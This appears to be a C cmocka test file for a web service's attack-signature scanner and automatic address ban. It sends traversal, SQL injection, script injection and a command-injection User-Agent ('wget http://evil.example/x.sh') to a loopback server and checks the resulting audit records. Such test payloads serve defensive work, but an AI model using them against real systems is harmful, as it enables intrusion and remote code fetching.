/* Attack signatures on a running `notes` over HTTPS: a payload of each class in the place it
 * is scanned (traversal in the path, SQL injection in a query value, script injection in a
 * JSON body field, command injection in a header) leaves exactly one attack.suspected record
 * naming where and which class, and never the payload; benign requests leave none; the
 * request gets the answer it would get without the scanner (a note holding <script> is
 * created); with ban.attacks = 3 the third suspicious request from one address bans it, and
 * another address is not affected. Each case plays its own loopback address, so only the ban
 * case reaches the threshold. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include <cmocka.h>

#include <jansson.h>
#include <time.h>
#include <unistd.h>

#include "auth_client.h"
#include "harness.h"
#include "totp_client.h"

#define WAIT_MS 5000
#define PW "correct horse battery staple"

static const char config[] =
    "{\"ban\": {\"attacks\": 3, \"window_s\": 60, \"duration_s\": 60, \"auth_failures\": 0,"
    "  \"rate_limited\": 0, \"validation_failures\": 0},"
    " \"ratelimit\": {\"address_burst\": 1000},"
    " \"auth\": {\"password\": {\"memlimit_kib\": 19456}}}";

typedef struct fixture {
    bw_srv *srv;
    char *config;
    char *editor;  /* bearer tokens */
    char *auditor; /* with a second factor: GET /v1/admin/audit demands one */
    char auditor_b32[BW_TEST_TOTP_B32_SIZE];
    uint64_t auditor_step;
} fixture;

static int64_t mono_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* One request from source (NULL: the default address). Returns the response (caller frees). */
static bw_resp send_from(fixture *f, const char *source, const char *token, const char *method,
                         const char *path, const char *json, const char *const *extra)
{
    bw_resp r;

    assert_int_equal(bw_srv_set_source(f->srv, source), 0);
    assert_int_equal(bw_http_as(f->srv, token, method, path, json, extra, &r), 0);
    assert_int_equal(bw_srv_set_source(f->srv, NULL), 0);
    return r;
}

/* The attack.suspected records, newest first, as lines of `notes audit search` (caller
 * decrefs the array of {"line": text, "rec": object}). */
static json_t *attack_records(fixture *f)
{
    const char *argv[] = {"audit", "search", "--event", "attack.suspected", "--limit", "100", NULL};
    bw_run_result r;
    json_t *all = json_array();
    const char *p;

    assert_non_null(all);
    assert_int_equal(bw_srv_run(f->srv, argv, NULL, &r), 0);
    if (r.status != 0)
        fail_msg("audit search exited %d: %s", r.status, r.err);
    for (p = r.out; *p != '\0';) {
        const char *eol = strchr(p, '\n');
        json_error_t e;
        json_t *rec;

        assert_non_null(eol);
        rec = json_loadb(p, (size_t)(eol - p), 0, &e);
        if (!json_is_object(rec))
            fail_msg("audit search printed: %.*s", (int)(eol - p), p);
        assert_int_equal(json_array_append_new(all, json_pack("{s:s%, s:o}", "line", p,
                                                              (size_t)(eol - p), "rec", rec)),
                         0);
        p = eol + 1;
    }
    bw_run_free(&r);
    return all;
}

/* How many records have this request id (an id of NULL counts none) or this source (NULL:
 * any source). */
static size_t count_matching(const json_t *all, const char *request_id, const char *source)
{
    size_t i, n = 0;
    const json_t *it;

    json_array_foreach(all, i, it)
    {
        const json_t *rec = json_object_get(it, "rec");
        const char *id = json_string_value(json_object_get(rec, "request_id"));
        const char *src = json_string_value(json_object_get(rec, "source"));

        if (request_id != NULL && (id == NULL || strcmp(id, request_id) != 0))
            continue;
        if (source != NULL && (src == NULL || strcmp(src, source) != 0))
            continue;
        n++;
    }
    return n;
}

/* Waits until the record of request_id is committed; returns {"line", "rec"} (caller decrefs)
 * after checking there is exactly one. */
static json_t *record_of(fixture *f, const char *request_id)
{
    int64_t until = mono_ms() + WAIT_MS;

    for (;;) {
        json_t *all = attack_records(f);
        size_t i;
        json_t *it;

        json_array_foreach(all, i, it)
        {
            const char *id =
                json_string_value(json_object_get(json_object_get(it, "rec"), "request_id"));
            if (id != NULL && strcmp(id, request_id) == 0) {
                json_t *one = json_incref(it);
                assert_int_equal(count_matching(all, request_id, NULL), 1);
                json_decref(all);
                return one;
            }
        }
        json_decref(all);
        if (mono_ms() > until)
            fail_msg("no attack.suspected record for request %s", request_id);
        usleep(50000);
    }
}

/* Checks one record: the fixed fields, exactly the four detail keys, and no byte of the
 * payload (each needle, case-insensitively) anywhere in the line. */
static void check_record(const json_t *it, const char *source, const char *target,
                         const char *where, const char *signature, const char *method, long status,
                         const char *const *needles)
{
    const json_t *rec = json_object_get(it, "rec");
    const json_t *d = json_object_get(rec, "detail");
    const char *line = json_string_value(json_object_get(it, "line"));

    assert_string_equal(json_string_value(json_object_get(rec, "event")), "attack.suspected");
    assert_string_equal(json_string_value(json_object_get(rec, "outcome")), "info");
    assert_string_equal(json_string_value(json_object_get(rec, "source")), source);
    if (target != NULL)
        assert_string_equal(json_string_value(json_object_get(rec, "target")), target);
    else
        assert_true(json_is_null(json_object_get(rec, "target")));
    assert_int_equal(json_object_size(d), 4);
    assert_string_equal(json_string_value(json_object_get(d, "where")), where);
    assert_string_equal(json_string_value(json_object_get(d, "signature")), signature);
    assert_string_equal(json_string_value(json_object_get(d, "method")), method);
    assert_int_equal(json_integer_value(json_object_get(d, "status")), status);
    for (size_t i = 0; needles[i] != NULL; i++) {
        if (strcasestr(line, needles[i]) != NULL)
            fail_msg("the record holds payload text \"%s\": %s", needles[i], line);
    }
}

static const char *request_id(const bw_resp *r)
{
    const char *id = bw_resp_header(r, "X-Request-Id");

    assert_non_null(id);
    assert_true(bw_is_fresh_request_id(id));
    return id;
}

/* ---- Tests ---- */

static void test_benign_requests_not_flagged(void **state)
{
    fixture *f = *state;
    /* Prose near each signature's edge (docs/attack-signatures.md, "Does not match"). */
    static const char note[] =
        "{\"title\":\"Don't forget O'Brien\","
        " \"body\":\"Select the union of both sets; a < b and c > d, rock & roll, "
        "report..final.pdf, Wait... JavaScript: The Good Parts. I like dogs; cats too.\"}";
    const char *const ua[] = {"User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", NULL};
    char ids[6][40];
    size_t nids = 0;
    bw_resp r;
    json_t *all, *marker;
    const char *const none[] = {NULL};

    r = send_from(f, NULL, NULL, "GET", "/healthz", NULL, ua);
    assert_int_equal(r.status, 200);
    snprintf(ids[nids++], sizeof(ids[0]), "%s", request_id(&r));
    bw_resp_free(&r);
    r = send_from(f, NULL, f->editor, "POST", "/v1/notes", note, NULL);
    bw_test_want_status(&r, 201, "benign note");
    snprintf(ids[nids++], sizeof(ids[0]), "%s", request_id(&r));
    bw_resp_free(&r);
    r = send_from(f, NULL, f->editor, "GET", "/v1/notes?limit=5", NULL, NULL);
    bw_test_want_status(&r, 200, "list notes");
    snprintf(ids[nids++], sizeof(ids[0]), "%s", request_id(&r));
    bw_resp_free(&r);
    r = send_from(f, NULL, f->editor, "GET", "/v1/notes/0123456789abcdef0123456789abcdef", NULL,
                  NULL);
    assert_int_equal(r.status, 404);
    snprintf(ids[nids++], sizeof(ids[0]), "%s", request_id(&r));
    bw_resp_free(&r);
    r = send_from(f, NULL, f->auditor, "GET", "/v1/admin/audit?event=attack.suspected&limit=5",
                  NULL, NULL);
    bw_test_want_status(&r, 200, "audit read");
    snprintf(ids[nids++], sizeof(ids[0]), "%s", request_id(&r));
    bw_resp_free(&r);
    /* A marker from another address: once its record is committed, any record the benign
     * requests (scanned before it) caused would be too. */
    r = send_from(f, "127.0.0.20", NULL, "GET", "/healthz?next=../../etc/passwd", NULL, NULL);
    assert_int_equal(r.status, 200);
    marker = record_of(f, request_id(&r));
    check_record(marker, "127.0.0.20", "/healthz", "query", "traversal", "GET", 200, none);
    json_decref(marker);
    bw_resp_free(&r);

    all = attack_records(f);
    for (size_t i = 0; i < nids; i++)
        assert_int_equal(count_matching(all, ids[i], NULL), 0);
    assert_int_equal(count_matching(all, NULL, "127.0.0.1"), 0);
    json_decref(all);
}

static void test_traversal_in_path(void **state)
{
    fixture *f = *state;
    const char *const needles[] = {"passwd", "..%2f", "../", "/v1/notes/..", NULL};
    bw_resp r =
        send_from(f, "127.0.0.11", NULL, "GET", "/v1/notes/..%2f..%2fetc%2fpasswd", NULL, NULL);
    json_t *rec;

    /* The canonical path refuses an encoded slash, as it would without the scanner. */
    BW_ASSERT_PROBLEM(&r, 400);
    rec = record_of(f, request_id(&r));
    check_record(rec, "127.0.0.11", NULL, "path", "traversal", "GET", 400, needles);
    json_decref(rec);
    bw_resp_free(&r);
}

static void test_sqli_in_query_value(void **state)
{
    fixture *f = *state;
    const char *const needles[] = {"' or", "'1'='1", "%27", NULL};
    /* actor is a free string: the query goes to the store as a parameter, matches nobody. */
    bw_resp r = send_from(f, "127.0.0.12", f->auditor, "GET",
                          "/v1/admin/audit?actor=%27%20or%20%271%27%3D%271", NULL, NULL);
    json_t *body, *rec;

    bw_test_want_status(&r, 200, "audit search with a quote in actor");
    body = json_loads(r.body, 0, NULL);
    assert_true(json_is_array(json_object_get(body, "items")));
    assert_int_equal(json_array_size(json_object_get(body, "items")), 0);
    json_decref(body);
    rec = record_of(f, request_id(&r));
    check_record(rec, "127.0.0.12", "/v1/admin/audit", "query", "sqli", "GET", 200, needles);
    assert_string_equal(json_string_value(json_object_get(json_object_get(rec, "rec"), "actor")),
                        "audrey");
    json_decref(rec);
    bw_resp_free(&r);
}

/* The attack.suspected record of request_id as GET /v1/admin/audit shows it to the auditor,
 * waiting until it is committed; exactly one. Returns {"line": its JSON text, "rec": it}
 * (caller decrefs). */
static json_t *api_record_of(fixture *f, const char *request_id)
{
    int64_t until = mono_ms() + WAIT_MS;

    for (;;) {
        json_t *page = bw_test_call(f->srv, f->auditor, "GET",
                                    "/v1/admin/audit?event=attack.suspected&limit=100", NULL, 200);
        json_t *it = NULL, *obj, *wrap;
        size_t i;
        char *line;

        json_array_foreach(json_object_get(page, "items"), i, obj)
        {
            const char *rid = json_string_value(json_object_get(obj, "request_id"));
            if (rid != NULL && strcmp(rid, request_id) == 0) {
                assert_null(it); /* exactly one */
                it = obj;
            }
        }
        if (it == NULL) {
            json_decref(page);
            if (mono_ms() > until)
                fail_msg("GET /v1/admin/audit shows no attack.suspected for %s", request_id);
            usleep(50000);
            continue;
        }
        line = json_dumps(it, JSON_COMPACT);
        assert_non_null(line);
        wrap = json_pack("{s:s, s:O}", "line", line, "rec", it);
        assert_non_null(wrap);
        free(line);
        json_decref(page);
        return wrap;
    }
}

static void test_xss_in_json_body(void **state)
{
    fixture *f = *state;
    const char *const needles[] = {"script", "alert(", "<", NULL};
    char path[256];
    bw_resp r = send_from(f, "127.0.0.13", f->editor, "POST", "/v1/notes",
                          "{\"title\":\"hello\",\"body\":\"<script>alert(1)</script>\"}", NULL);
    json_t *page, *rec;

    /* The schema takes any string: the note is created, the scanner only reports. */
    bw_test_want_status(&r, 201, "note with <script>");
    /* Read back as the auditor over the API this time, and once in the CLI's view. */
    rec = api_record_of(f, request_id(&r));
    check_record(rec, "127.0.0.13", "/v1/notes", "body", "xss", "POST", 201, needles);
    assert_string_equal(json_string_value(json_object_get(json_object_get(rec, "rec"), "actor")),
                        "eddie");
    json_decref(rec);
    rec = record_of(f, request_id(&r));
    check_record(rec, "127.0.0.13", "/v1/notes", "body", "xss", "POST", 201, needles);
    json_decref(rec);
    /* The stored note is exactly what was sent (the schema decided, nothing was altered). */
    page = json_loads(r.body, 0, NULL);
    assert_non_null(json_string_value(json_object_get(page, "id")));
    assert_true((size_t)snprintf(path, sizeof(path), "/v1/notes/%s",
                                 json_string_value(json_object_get(page, "id"))) < sizeof(path));
    json_decref(page);
    bw_resp_free(&r);
    page = bw_test_call(f->srv, f->editor, "GET", path, NULL, 200);
    assert_string_equal(json_string_value(json_object_get(page, "body")),
                        "<script>alert(1)</script>");
    json_decref(page);
}

static const char CMDI_UA[] = "User-Agent: Mozilla/5.0; wget http://evil.example/x.sh";

static void test_cmdi_in_header(void **state)
{
    fixture *f = *state;
    const char *const ua[] = {CMDI_UA, NULL};
    const char *const needles[] = {"wget", "evil.example", "x.sh", "Mozilla", NULL};
    bw_resp r = send_from(f, "127.0.0.14", NULL, "GET", "/healthz", NULL, ua);
    json_t *rec;

    assert_int_equal(r.status, 200);
    assert_non_null(strstr(r.body, "ok"));
    rec = record_of(f, request_id(&r));
    check_record(rec, "127.0.0.14", "/healthz", "header", "cmdi", "GET", 200, needles);
    assert_true(json_is_null(json_object_get(json_object_get(rec, "rec"), "actor")));
    json_decref(rec);
    bw_resp_free(&r);
}

/* The ban.added records for addr. */
static size_t bans_of(fixture *f, const char *addr, json_t **first)
{
    const char *argv[] = {"audit", "search", "--event", "ban.added", NULL};
    bw_run_result r;
    size_t n = 0;

    assert_int_equal(bw_srv_run(f->srv, argv, NULL, &r), 0);
    assert_int_equal(r.status, 0);
    for (const char *p = r.out; *p != '\0';) {
        const char *eol = strchr(p, '\n');
        json_t *rec;

        assert_non_null(eol);
        rec = json_loadb(p, (size_t)(eol - p), 0, NULL);
        assert_true(json_is_object(rec));
        if (strcmp(json_string_value(json_object_get(rec, "target")), addr) == 0) {
            n++;
            if (first != NULL && *first == NULL)
                *first = json_incref(rec);
        }
        json_decref(rec);
        p = eol + 1;
    }
    bw_run_free(&r);
    return n;
}

static void test_third_attack_bans_the_address(void **state)
{
    fixture *f = *state;
    const char *const ua[] = {CMDI_UA, NULL};
    const char *const none[] = {NULL};
    json_t *ban = NULL, *all;
    const char *reason;
    int64_t until;
    bw_resp r;

    /* Interleaved: 127.0.0.2 three times, 127.0.0.1 twice (below the threshold). Detection
     * never blocks: even the third gets its normal answer. */
    for (int i = 0; i < 3; i++) {
        json_t *rec;

        r = send_from(f, "127.0.0.2", NULL, "GET", "/healthz", NULL, ua);
        assert_int_equal(r.status, 200);
        rec = record_of(f, request_id(&r));
        check_record(rec, "127.0.0.2", "/healthz", "header", "cmdi", "GET", 200, none);
        json_decref(rec);
        bw_resp_free(&r);
        if (i < 2) {
            r = send_from(f, NULL, NULL, "GET", "/healthz", NULL, ua);
            assert_int_equal(r.status, 200);
            bw_resp_free(&r);
        }
    }
    /* The ban follows the third offence; the next request, however clean, is refused. */
    until = mono_ms() + WAIT_MS;
    do {
        r = send_from(f, "127.0.0.2", NULL, "GET", "/healthz", NULL, NULL);
        if (r.status == 429 || mono_ms() > until)
            break;
        bw_resp_free(&r);
        usleep(50000);
    } while (true);
    BW_ASSERT_PROBLEM(&r, 429);
    assert_non_null(strstr(r.body, "blocked"));
    bw_resp_free(&r);
    r = send_from(f, "127.0.0.2", f->editor, "GET", "/v1/notes", NULL, NULL);
    BW_ASSERT_PROBLEM(&r, 429);
    bw_resp_free(&r);
    /* A banned request is refused before anything is looked at: a payload now leaves no
     * fourth record (checked once a later record, from another address, is committed). */
    r = send_from(f, "127.0.0.2", NULL, "GET", "/healthz", NULL, ua);
    BW_ASSERT_PROBLEM(&r, 429);
    bw_resp_free(&r);
    r = send_from(f, "127.0.0.21", NULL, "GET", "/healthz?q=1%27%20or%201=1--", NULL, NULL);
    assert_int_equal(r.status, 200);
    json_decref(record_of(f, request_id(&r)));
    bw_resp_free(&r);
    all = attack_records(f);
    assert_int_equal(count_matching(all, NULL, "127.0.0.2"), 3);
    assert_int_equal(count_matching(all, NULL, "127.0.0.1"), 2);
    json_decref(all);
    /* The ban is on the audit trail; 127.0.0.1 is not banned. */
    until = mono_ms() + WAIT_MS;
    while (bans_of(f, "127.0.0.2", NULL) == 0 && mono_ms() < until)
        usleep(50000);
    assert_int_equal(bans_of(f, "127.0.0.2", &ban), 1);
    assert_string_equal(json_string_value(json_object_get(ban, "event")), "ban.added");
    /* An automatic ban, naming the threshold that banned ("auto: attacks"). */
    reason = json_string_value(json_object_get(json_object_get(ban, "detail"), "reason"));
    assert_non_null(reason);
    assert_int_equal(strncmp(reason, "auto", 4), 0);
    assert_non_null(strstr(reason, "attacks"));
    json_decref(ban);
    assert_int_equal(bans_of(f, "127.0.0.1", NULL), 0);
    r = send_from(f, NULL, f->editor, "GET", "/v1/notes", NULL, NULL);
    bw_test_want_status(&r, 200, "127.0.0.1 after the ban of 127.0.0.2");
    bw_resp_free(&r);
}

static int setup(void **state)
{
    fixture *f = calloc(1, sizeof(*f));

    *state = f;
    if (f == NULL)
        return -1;
    f->srv = bw_test_srv_start_json(config, &f->config);
    if (f->srv == NULL || bw_test_user_add(f->srv, "eddie", PW, "editor") != 0 ||
        bw_test_user_add(f->srv, "audrey", PW, "auditor") != 0 ||
        bw_test_login(f->srv, "eddie", PW, &f->editor, NULL) != 0 ||
        bw_test_login(f->srv, "audrey", PW, &f->auditor, NULL) != 0 ||
        /* Without a second factor the auditor may not read the trail; with one she may. */
        bw_test_mfa_refused(f->srv, f->auditor, "GET", "/v1/admin/audit", NULL) != 0 ||
        bw_test_mfa_upgrade(f->srv, &f->auditor, f->auditor_b32, &f->auditor_step) != 0)
        return -1;
    return 0;
}

static int teardown(void **state)
{
    fixture *f = *state;
    int rc;

    if (f == NULL)
        return -1;
    rc = bw_test_srv_stop(&f->srv, &f->config) == 0 ? 0 : -1;
    free(f->editor);
    free(f->auditor);
    free(f);
    return rc;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_benign_requests_not_flagged),
        cmocka_unit_test(test_traversal_in_path),
        cmocka_unit_test(test_sqli_in_query_value),
        cmocka_unit_test(test_xss_in_json_body),
        cmocka_unit_test(test_cmdi_in_header),
        cmocka_unit_test(test_third_attack_bans_the_address),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
